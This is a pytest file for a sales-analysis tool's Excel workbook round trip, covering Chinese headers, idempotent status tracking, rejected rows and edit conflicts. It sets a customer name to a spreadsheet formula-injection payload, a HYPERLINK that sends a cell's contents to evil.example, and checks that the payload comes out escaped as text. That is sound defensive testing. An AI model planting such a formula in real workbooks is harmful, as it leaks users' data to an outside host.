"""The Excel round trip: formula-safe workbook, Chinese text, idempotent track, conflicts."""

import shutil

import openpyxl
import pytest

from salesanalysis.exceptions import IntakeError
from salesanalysis.playbook import make_plan, plan_rows, save_plan, track_workbook
from salesanalysis.playbook.replan import DONE, IN_PROGRESS, PLANNED
from salesanalysis.playbook.workbook import HEADERS, write_plan_workbook

EVIL = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
COLUMN = {c: i + 1 for i, c in enumerate(HEADERS)}


@pytest.fixture
def planned(graded_store, tmp_path):
    """A saved plan, a customer renamed to a formula, and its zh workbook."""
    graded_store.con.execute("UPDATE customers SET name = ? WHERE customer_id = 'C00001'", [EVIL])
    plan = make_plan(graded_store, start="2026-09-15", lang="zh")
    save_plan(graded_store, plan)
    rows = plan_rows(graded_store, plan)
    rows = rows[rows["customer_id"].isin(["C00001", *rows["customer_id"].drop_duplicates()[:5]])]
    path = write_plan_workbook(rows, tmp_path / "plan.xlsx", "zh")  # a few customers: quick
    return graded_store, plan, path


def _rows(path):
    book = openpyxl.load_workbook(path)
    return book, book["actions"]


def _find(ws, column, value):
    return next(r for r in range(2, ws.max_row + 1) if ws.cell(r, COLUMN[column]).value == value)


def test_workbook_layout_is_safe_and_filterable(planned):
    _, _, path = planned
    book, ws = _rows(path)
    assert [c.value for c in ws[1]][:3] == ["行动编号", "客户编号", "客户名称"]
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref
    validations = [dv for dv in ws.data_validations.dataValidation if dv.type == "list"]
    assert validations and "已完成" in validations[0].formula1
    row = _find(ws, "customer_id", "C00001")
    cell = ws.cell(row, COLUMN["name"])
    assert cell.data_type == "s" and not str(cell.value).startswith("=")
    assert ws.column_dimensions[openpyxl.utils.get_column_letter(COLUMN["base"])].hidden


def test_round_trip_applies_once_keeps_chinese_and_formula_text(planned, tmp_path):
    store, plan, path = planned
    book, ws = _rows(path)
    row = _find(ws, "customer_id", "C00001")
    action_id = ws.cell(row, COLUMN["action_id"]).value
    ws.cell(row, COLUMN["status"]).value = "已完成"
    ws.cell(row, COLUMN["done_date"]).value = "2026-09-16"
    ws.cell(row, COLUMN["feedback"]).value = "客户很满意，要求下周报价"
    ws.cell(row, COLUMN["objection"]).value = "=1+2 价格太高"
    ws.cell(row, COLUMN["objection"]).data_type = "s"  # typed into a text cell: stays text
    ws.cell(row, COLUMN["response"]).value = "提出分期付款"
    filled = tmp_path / "filled.xlsx"
    book.save(filled)
    first = track_workbook(store, filled)
    assert first.updated == 1 and first.rejected.empty and first.conflicts.empty
    stored = store.table("actions").set_index("action_id").loc[action_id]
    assert stored["status"] == DONE and str(stored["done_date"])[:10] == "2026-09-16"
    assert stored["feedback"] == "客户很满意，要求下周报价"
    assert stored["objection"] == "=1+2 价格太高"
    assert stored["updated_from"].startswith("filled.xlsx@")
    before = store.table("actions")
    second = track_workbook(store, filled)
    assert second.updated == 0 and second.unchanged == first.unchanged + 1
    assert store.table("actions").equals(before)
    # the customer's name came back as text, not a formula
    rows = plan_rows(store, plan)
    again = write_plan_workbook(rows[rows["customer_id"] == "C00001"], tmp_path / "again.xlsx", "en")
    _, ws2 = _rows(again)
    name = ws2.cell(_find(ws2, "customer_id", "C00001"), COLUMN["name"])
    assert name.data_type == "s" and name.value == "'" + EVIL


def test_bad_rows_and_unknown_actions_are_kept_with_reasons(planned, tmp_path):
    store, _, path = planned
    book, ws = _rows(path)
    ws.cell(2, COLUMN["status"]).value = "finished"
    ws.cell(3, COLUMN["status"]).value = "Done"  # no done date
    ws.cell(4, COLUMN["action_id"]).value = "AC-not-ours"
    ws.cell(5, COLUMN["done_date"]).value = "someday"
    filled = tmp_path / "bad.xlsx"
    book.save(filled)
    result = track_workbook(store, filled)
    assert result.updated == 0
    text = "\n".join(result.rejected["text"])
    assert "row 2, column 状态 (status): value 'finished': not an allowed value" in text
    assert "row 3, column 完成日期 (done_date): blank: a done action needs its done date" in text
    assert "row 5" in text and "not a date" in text
    assert result.unknown["action_id"].tolist() == ["AC-not-ours"]
    kept = store.query("SELECT source_row, reasons FROM rejected_rows ORDER BY source_row")
    assert kept["source_row"].tolist() == [2, 3, 4, 5]
    assert "unknown action" in kept["reasons"].iloc[2]
    track_workbook(store, filled)  # replaced, not duplicated
    assert store.count("rejected_rows") == 4


def test_backwards_status_and_two_workbooks_are_conflicts(planned, tmp_path):
    store, _, path = planned
    first_copy, second_copy = tmp_path / "north.xlsx", tmp_path / "south.xlsx"
    shutil.copy(path, first_copy)
    shutil.copy(path, second_copy)
    book, ws = _rows(first_copy)
    action_id = ws.cell(2, COLUMN["action_id"]).value
    ws.cell(2, COLUMN["status"]).value = "进行中"
    ws.cell(3, COLUMN["status"]).value = "已完成"
    ws.cell(3, COLUMN["done_date"]).value = "2026-09-20"
    book.save(first_copy)
    assert track_workbook(store, first_copy).updated == 2
    # the same action edited in another workbook: a conflict, not applied
    book, ws = _rows(second_copy)
    ws.cell(2, COLUMN["feedback"]).value = "another view"
    book.save(second_copy)
    other = track_workbook(store, second_copy)
    assert other.updated == 0 and len(other.conflicts) == 1
    assert "edited in two workbooks" in other.conflicts["text"].iloc[0]
    assert "north.xlsx@" in other.conflicts["text"].iloc[0]
    assert other.stale == 1  # row 3 changed in north only: south did not touch it
    # the first workbook moves the done action back: a conflict
    book, ws = _rows(first_copy)
    ws.cell(3, COLUMN["status"]).value = "计划中"
    ws.cell(3, COLUMN["done_date"]).value = None
    book.save(first_copy)
    back = track_workbook(store, first_copy)
    assert back.updated == 0 and "moved backwards from done" in back.conflicts["text"].iloc[0]
    status = store.table("actions").set_index("action_id")["status"]
    assert status[action_id] == IN_PROGRESS and PLANNED in set(status)


def test_a_workbook_without_the_columns_is_refused(tmp_path, graded_store):
    path = tmp_path / "other.xlsx"
    book = openpyxl.Workbook()
    book.active.append(["name", "note"])
    book.active.append(["x", "y"])
    book.save(path)
    with pytest.raises(IntakeError, match="no sheet with an action id and a status column"):
        track_workbook(graded_store, path)
